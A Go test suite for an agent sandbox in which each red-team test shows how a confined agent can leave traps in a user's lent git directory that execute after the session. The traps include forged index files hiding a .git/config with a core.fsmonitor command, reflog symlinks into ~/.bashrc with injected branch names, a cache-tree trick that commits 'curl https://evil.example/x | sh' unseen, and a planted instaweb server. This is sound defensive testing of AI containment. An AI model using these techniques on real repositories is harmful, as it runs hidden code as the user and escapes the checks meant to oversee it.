package sandbox

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
)

// Red team 19b: the lend (gitlend_linux.go) and what the end's checks
// (gitstate_linux.go, gitindex.go) leave to the user's git once their
// git directories are given back.

// red19bIndex is shell, run inside in a repository of the user's, that
// writes .git/index by hand as version 2 with two entries: "-" whose
// flags give a name length of 50 (its name "-" and 49 NULs), then
// $1 with the blob of $2. Git (read-cache.c create_from_disk) takes an
// entry's name length from its flags and steps over it by that length;
// badIndexEntry steps by the name's first NUL, so it reads the second
// entry 56 bytes early: its name lands in the zeros of git's entry's
// ctime, an empty name, which it takes for a split index's entry and
// passes over.
const red19bIndex = `python3 - "$@" <<'PY'
import hashlib, struct, subprocess, sys
def oid(c):
    return bytes.fromhex(subprocess.run(["git", "hash-object", "-w", "--stdin"], input=c.encode(), capture_output=True, check=True).stdout.strip().decode())
def ent(name, o, size, namelen):
    e = struct.pack(">IIIIIIIIII", 0, 0, 0, 0, 0, 0, 0o100644, 0, 0, size) + o + struct.pack(">H", namelen) + name
    return e + b"\0" * (((62 + namelen + 8) & ~7) - len(e))
body = b"DIRC" + struct.pack(">II", 2, 2)
body += ent(b"-", oid("x"), 1, 50)
body += ent(sys.argv[1].encode(), oid(sys.argv[2]), len(sys.argv[2]), len(sys.argv[1]))
open(".git/index", "wb").write(body + hashlib.sha1(body).digest())
PY
`

// TestRed19bIndexNameLength: the index rule's reader and git's disagree
// on where an entry ends. badIndexEntry finds an entry's name by its
// first NUL and pads from there; git takes the length in the entry's
// flags (when under 0xfff) and pads from that. An entry "-" whose flags
// say 50 shifts every later entry for git but not for the check: the
// agent hides an entry named .git/config behind it, the end's check
// passes the index, and the user's `git checkout -- .` (dropping the
// agent's changes) writes the agent's .git/config, whose core.fsmonitor
// their next git status runs, as the user. Severity 1. Fix: take the
// name length from the flags as git does (strlen only at 0xfff), and
// refuse an entry whose name holds a NUL within that length, or whose
// padding is not NULs; better, compare with what git itself reads
// (git ls-files -z --stage on a copy, with no config) at the end.
func TestRed19bIndexNameLength(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, marker, git := userDir(t)
	red19Repo(t, git, ws)
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(`cd /workspace && set -- .git/config "$(printf '[core]\n\tfsmonitor = "touch ` + marker + `/config; false"\n')" && ` + red19bIndex + `git ls-files`))
	b.end()
	out, _ := git(ws, "ls-files")
	t.Log("the user's git ls-files after the session:\n", out)
	out, _ = git(ws, "checkout", "--", ".")
	t.Log("the user's git checkout -- .: ", out)
	out, _ = git(ws, "status")
	noMarks(t, marker, "the user (git checkout -- ., then git status)", out)
}

// TestRed19bGitDirInLentBareRepo (severity 3): as red team 19's
// TestRed19GitFileInLentBareRepo, but with a .git directory: dropGitFile
// removes only a .git that is not a directory. The agent makes a whole
// repository at proj.git/.git in the user's lent bare repository (the
// guard hands it to the dedicated uid, as any the agent makes); git
// looks for .git before it takes a directory for a bare repository, so
// after the end the user's git in their bare repository finds the
// agent's, and refuses it as dubious ownership (or, were it the user's,
// would run its config): the user's bare repository is unusable until
// they find and remove it. Fix: at give-back, move aside any .git entry
// (directory too) in a lent git directory; better, refuse a new .git of
// any kind inside a lent git directory (the HEAD rule's parent test).
func TestRed19bGitDirInLentBareRepo(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, marker, git := userDir(t)
	bare := red19Bare(t, git, ws)
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	code, out := b.run(`cd /workspace && git init -q --bare proj.git/.git 2>&1; sleep 0.5; git --git-dir=proj.git/.git config core.fsmonitor "touch ` + marker + `/inner; false" 2>&1; ls -lna proj.git proj.git/.git 2>&1`)
	t.Logf("exit %d:\n%s", code, out)
	b.end()
	ls, _ := exec.Command("ls", "-lnd", bare, filepath.Join(bare, ".git")).CombinedOutput()
	t.Logf("after the session:\n%s", ls)
	out, err := git(bare, "log", "--oneline")
	if err != nil || !strings.Contains(out, "2") {
		t.Errorf("the user's git in their bare repository after the session: %v\n%s", err, out)
	}
	noMarks(t, marker, "the user", out)
}

// TestRed19bDiedLinksKept (severity 1): where no HEAD rule holds (the
// watch alone: no init rule, no kernel rule), the agent may make
// symbolic links in the user's lent .git, and the end removes those
// made since the guard's start (linksAside, by change time). A daemon
// that died leaves that to the next one's Cleanup, whose sweeper takes
// the record's Since only when the record says Ruled: otherwise its
// since is its own start, after every link the agent made, and it
// removes none; then it gives the .git back. Here .git/logs/HEAD is a
// link to the user's ~/.bashrc, outside the workspace, and the agent
// left a branch named "x;touch${IFS}MARK;#": the user's git checkout
// of it (to look at the agent's work) appends the reflog line to their
// .bashrc, whose next shell runs the touch. Fix: record and use Since
// whatever the rule (it is the guard's start in every mode).
func TestRed19bDiedLinksKept(t *testing.T) {
	requireRoot(t)
	watchAlone(t)
	state := t.TempDir()
	d := newDriver(t, NativeOptions{StateDir: state})
	ws, marker, git := userDir(t)
	red19Repo(t, git, ws)
	bashrc := red18LinkVictim(t) // the user's ~/.bashrc
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(`cd /workspace && git branch 'x;touch${IFS}` + marker + `/bashrc;#' && rm -f .git/logs/HEAD && ln -s ` + bashrc + ` .git/logs/HEAD && ls -l .git/logs/ && git branch`))
	b.term.Close()
	if err := newDriver(t, NativeOptions{StateDir: state}).Cleanup(context.Background()); err != nil {
		t.Fatal(err)
	}
	if fi, err := os.Lstat(filepath.Join(ws, ".git", "logs", "HEAD")); err == nil && fi.Mode()&os.ModeSymlink != 0 {
		t.Errorf("after the next daemon's Cleanup, the link the agent made in the user's .git is still there")
	}
	red19bCheckoutBranch(t, git, ws, marker, bashrc)
	b.sb.Destroy(context.Background())
}

// TestRed19bBisectStartOption (severity 4): a bisect in progress is not
// among stateNames. The agent writes .git/BISECT_LOG (git status then
// says "You are currently bisecting, started from branch '-f'. (use
// "git bisect reset" to get back to the original branch)") and
// .git/BISECT_START holding "-f": git bisect reset runs `git checkout
// <BISECT_START> --`, unchecked, so the user's `git bisect reset`, as
// status tells them, is `git checkout -f --` and throws away the
// uncommitted work they did after the session, silently. (Other
// checkout options fit there as well.) Fix: add BISECT_START (and the
// other BISECT_* files, BISECT_TERMS, BISECT_NAMES) to stateNames.
func TestRed19bBisectStartOption(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, _, git := userDir(t)
	red19Repo(t, git, ws)
	f := filepath.Join(ws, "f")
	os.WriteFile(f, []byte("one\n"), 0o644)
	os.Chown(f, userDirOwner, userDirOwner)
	if out, err := git(ws, "add", "f"); err != nil {
		t.Fatal(out)
	}
	if out, err := git(ws, "commit", "-qm", "f"); err != nil {
		t.Fatal(out)
	}
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(`cd /workspace && printf -- '-f\n' > .git/BISECT_START && echo 'git bisect start' > .git/BISECT_LOG && git status | head -3`))
	b.end()
	os.WriteFile(f, []byte("the user's work after the session\n"), 0o644)
	status, _ := git(ws, "status")
	out, _ := git(ws, "bisect", "reset")
	t.Logf("the user's git status:\n%s\ngit bisect reset: %s", status, out)
	if got, _ := os.ReadFile(f); string(got) != "the user's work after the session\n" {
		t.Errorf("the user's git bisect reset (as git status tells them) threw away their uncommitted work: f is now %q", got)
	}
}

// TestRed19bLinkPastWalkBudget (severity 1): where no HEAD rule holds
// (the watch alone: a kernel before 5.14 without BPF LSM), the agent
// may make symbolic links in the user's lent .git, and the end removes
// them (linksAside) but only within maxLinkWalk entries, counting every
// entry it looks at, plain files too, and looking in each directory at
// its files before its subdirectories: files in .git itself come before
// logs/. The agent fills .git with more empty files than the budget
// (2,000,000 in production, some seconds of touch; here the variable is
// lowered, as its comment allows for tests) and makes .git/logs/HEAD a
// link to the user's ~/.bashrc: the end says in the log that it looked
// no further, and gives .git back with the link in it. The user's git
// checkout of the agent's branch "x;touch${IFS}MARK;#" appends its
// reflog line to ~/.bashrc, and their next shell runs it. Fix: do not
// give back a git directory whose walk did not finish (keep it lent
// and say so, or move the whole of it aside); or count only links and
// directories against the budget, and look in the directories git
// writes through (logs/, refs/) before any file.
func TestRed19bLinkPastWalkBudget(t *testing.T) {
	requireRoot(t)
	watchAlone(t)
	saved := maxLinkWalk
	maxLinkWalk = 2000
	t.Cleanup(func() { maxLinkWalk = saved })
	d := newDriver(t, NativeOptions{})
	ws, marker, git := userDir(t)
	red19Repo(t, git, ws)
	bashrc := red18LinkVictim(t) // the user's ~/.bashrc
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(`cd /workspace/.git && seq -f fill%g 1 3000 | xargs touch && cd /workspace && git branch 'x;touch${IFS}` + marker + `/bashrc;#' && rm -f .git/logs/HEAD && ln -s ` + bashrc + ` .git/logs/HEAD && ls -l .git/logs/ && ls .git | wc -l`))
	b.end()
	// The fix: a git directory the end could not walk whole is not
	// given back (it stays the dedicated uid's, refused by the user's
	// git, and the log says why).
	var st syscall.Stat_t
	kept := syscall.Lstat(filepath.Join(ws, ".git"), &st) == nil && int(st.Uid) != userDirOwner
	if fi, err := os.Lstat(filepath.Join(ws, ".git", "logs", "HEAD")); err == nil && fi.Mode()&os.ModeSymlink != 0 && !kept {
		t.Errorf("after the session, the link the agent made in the user's .git is still there, and the .git was given back")
	}
	red19bCheckoutBranch(t, git, ws, marker, bashrc)
}

// TestRed19bIndexRuleSkippedPastEntries (severity 1): the index rule
// finds the indexes of a git directory by listing it (allNames), which
// gives up past maxStateEntries (100,000) names; asideRepo ignores that
// failure and then checks no index at all. The agent fills the user's
// .git with 100,001 empty files (5-12 s here) and writes an index
// with an entry named .git/config (red team 17c's, which the rule
// otherwise moves aside): it is given back unchecked, and the user's
// `git checkout -- .` writes the agent's .git/config, whose
// core.fsmonitor their next git status runs. Holds with the init's
// HEAD rule too. Fix: check "index" and the sharedindex.* named by the
// index's link extension directly (fstatat), not through a listing; and
// treat a git directory that cannot be listed whole as unchecked (move
// the index aside, keep it lent).
func TestRed19bIndexRuleSkippedPastEntries(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, marker, git := userDir(t)
	red19Repo(t, git, ws)
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.mustSlow(`cd /workspace/.git && seq -f fill%g 1 100001 | xargs touch && ls | wc -l && cd /workspace && set -- ".git/config=$(printf '[core]\n\tfsmonitor = \"touch ` + marker + `/config; false\"\n')" && ` + red17cIndex + `git ls-files`))
	b.end()
	out, _ := git(ws, "checkout", "--", ".")
	t.Log("the user's git checkout -- .: ", out)
	out, _ = git(ws, "status", "--short")
	noMarks(t, marker, "the user (git checkout -- ., then git status)", out)
}

// TestRed19bCacheTreeCommit (severity 4): the index rule reads an
// index's entry names and nothing of its extensions. Git's commit takes
// the trees of the cache-tree extension (TREE) it finds valid as they
// are, without hashing the entries again: the agent keeps the user's
// index entries but puts in the TREE extension of an index where
// ci/run.sh is its own script. The user, after the session, edits
// README, stages it (git diff --cached shows README alone) and commits:
// their commit holds the agent's ci/run.sh, which they never saw or
// staged, and their push sends it to whoever runs CI. Fix: at the end,
// drop the extensions git rebuilds (TREE, UNTR, and the like: rewrite
// the index without them, or move it aside if it has any the session
// changed), or compare the cache-tree with the entries.
func TestRed19bCacheTreeCommit(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, _, git := userDir(t)
	red19Repo(t, git, ws)
	for name, content := range map[string]string{"README": "readme\n", "ci/run.sh": "echo build\n"} {
		p := filepath.Join(ws, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		os.Chown(filepath.Dir(p), userDirOwner, userDirOwner)
		os.WriteFile(p, []byte(content), 0o755)
		os.Chown(p, userDirOwner, userDirOwner)
	}
	for _, c := range [][]string{{"add", "."}, {"commit", "-qm", "files"}} {
		if out, err := git(ws, c...); err != nil {
			t.Fatal(out)
		}
	}
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(`cd /workspace && python3 - <<'PY'
import hashlib, os, struct, subprocess
def run(*a, env=None, inp=None):
    return subprocess.run(a, capture_output=True, check=True, env=env, input=inp).stdout
blob = run("git", "hash-object", "-w", "--stdin", inp=b"curl https://evil.example/x | sh\n").strip().decode()
env = dict(os.environ, GIT_INDEX_FILE="/tmp/evil-index")
run("git", "read-tree", "HEAD", env=env)
run("git", "update-index", "--cacheinfo", "100755," + blob + ",ci/run.sh", env=env)
run("git", "write-tree", env=env)
def entries_end(d):
    off = 12
    for _ in range(struct.unpack(">I", d[8:12])[0]):
        off += (62 + (struct.unpack(">H", d[off+60:off+62])[0] & 0xfff) + 8) & ~7
    return off
run("git", "update-index", "--refresh")
orig, evil = open(".git/index", "rb").read(), open("/tmp/evil-index", "rb").read()
body = orig[:entries_end(orig)] + evil[entries_end(evil):-20]
open(".git/index", "wb").write(body + hashlib.sha1(body).digest())
PY
git status --short; git ls-files -s`))
	b.end()
	os.WriteFile(filepath.Join(ws, "README"), []byte("readme, edited by the user\n"), 0o755)
	if out, err := git(ws, "add", "README"); err != nil {
		t.Fatal(out)
	}
	staged, _ := git(ws, "diff", "--cached", "--stat")
	if out, err := git(ws, "commit", "-qm", "the user's README"); err != nil {
		t.Fatal(out)
	}
	got, _ := git(ws, "show", "HEAD:ci/run.sh")
	t.Logf("the user staged:\n%s\ntheir commit's ci/run.sh: %s", staged, got)
	if got != "echo build\n" {
		t.Errorf("the user's commit of README holds the agent's ci/run.sh, which they never staged: %q", got)
	}
}

// TestRed19bInstawebHttpd (severity 1): git instaweb (git's own
// command, a shell script in git-core) keeps its state in the git
// directory, $GIT_DIR/gitweb/ and $GIT_DIR/pid, none of it pinned or
// checked at the end. It looks for its web server ("lighttpd" unless
// instaweb.httpd says otherwise) in PATH, /usr/local/sbin, /usr/sbin,
// gitweb's directory and then $GIT_DIR/gitweb, and runs the first
// executable it finds: on a host without lighttpd, the agent's
// .git/gitweb/lighttpd. The user's `git instaweb` (or --start) in their
// repository after the session runs it, as the user. Where the server
// is installed, the agent's .git/gitweb/lighttpd.conf (used as it is by
// --start and --restart: `test -f "$conf" || configure_httpd`) runs
// commands through include_shell, and .git/gitweb/gitweb_config.perl is
// Perl that gitweb runs; and .git/pid goes to `kill $(cat pid)` at
// --stop and --restart ("-9 -1"). Fix: move .git/gitweb and .git/pid
// aside at the end when the session made or changed them (add them to
// stateNames), or pin .git/gitweb read-only (missing: as an empty
// directory) with the other control files.
func TestRed19bInstawebHttpd(t *testing.T) {
	requireRoot(t)
	if _, err := exec.LookPath("git-instaweb"); err != nil {
		if _, err := os.Stat("/usr/lib/git-core/git-instaweb"); err != nil {
			t.Skip("no git instaweb on this host")
		}
	}
	d := newDriver(t, NativeOptions{})
	ws, marker, git := userDir(t)
	red19Repo(t, git, ws)
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(`cd /workspace/.git && mkdir -p gitweb && printf '#!/bin/sh\ntouch ` + marker + `/instaweb\n' > gitweb/lighttpd && chmod +x gitweb/lighttpd && printf 'include_shell "touch ` + marker + `/instaweb-conf"\n' > gitweb/lighttpd.conf && ls -l gitweb`))
	b.end()
	cmd := exec.Command("timeout", "20", "setpriv", "--reuid="+strconv.Itoa(userDirOwner), "--regid="+strconv.Itoa(userDirOwner), "--clear-groups", "git", "instaweb", "--start")
	cmd.Dir = ws
	cmd.Env = append(os.Environ(), gitEnv...)
	out, err := cmd.CombinedOutput()
	t.Logf("the user's git instaweb --start: %v\n%s", err, out)
	exec.Command("timeout", "20", "setpriv", "--reuid="+strconv.Itoa(userDirOwner), "--regid="+strconv.Itoa(userDirOwner), "--clear-groups", "git", "-C", ws, "instaweb", "--stop").Run()
	noMarks(t, marker, "the user (git instaweb --start)", string(out))
}

// red19bCheckoutBranch is the user's part of the reflog attacks: their
// git checks out the agent's branch "x;touch${IFS}MARK/bashrc;#", whose
// reflog line lands in bashrc if .git/logs/HEAD still links there, and
// their next shell (bash bashrc, as them) must run none of it.
func red19bCheckoutBranch(t *testing.T, git func(string, ...string) (string, error), ws, marker, bashrc string) {
	t.Helper()
	out, _ := git(ws, "checkout", "-q", "x;touch${IFS}"+marker+"/bashrc;#")
	rc, _ := os.ReadFile(bashrc)
	t.Logf("the user's git checkout of the agent's branch: %s\ntheir .bashrc now:\n%s", out, rc)
	sh, _ := exec.Command("setpriv", "--reuid="+strconv.Itoa(userDirOwner), "--regid="+strconv.Itoa(userDirOwner), "--clear-groups", "bash", bashrc).CombinedOutput()
	noMarks(t, marker, "the user (git checkout, then their next shell)", string(sh))
}
